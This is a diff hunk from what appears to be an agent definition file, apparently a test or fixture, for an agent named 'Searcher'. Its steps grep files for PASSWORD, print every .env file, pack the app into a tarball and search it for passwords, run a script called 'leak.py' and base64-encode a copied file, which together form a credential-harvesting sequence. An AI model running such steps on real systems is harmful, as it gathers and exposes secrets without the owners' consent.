@@ -377,7 +377,7 @@ AGENT Searcher LEVEL 5 {
     step search: tool.run { cmd: "grep -rh PASSWORD ." on_fail: continue }
     step find: tool.run { cmd: "find . -name .env -exec cat {} +" on_fail: continue }
     step pack: tool.run { cmd: "tar cf packed.tar app" on_fail: continue }
-    step list: tool.run { cmd: "tar xOf packed.tar" on_fail: continue }
+    step list: tool.run { cmd: "grep -a PASSWORD packed.tar" on_fail: continue }
     step errors: tool.run { cmd: "python3 leak.py" on_fail: continue }
     step copied: tool.read_file { path: "copy.md" output_var: seen }
     step coded: tool.run { cmd: "base64 copy.md" on_fail: continue }
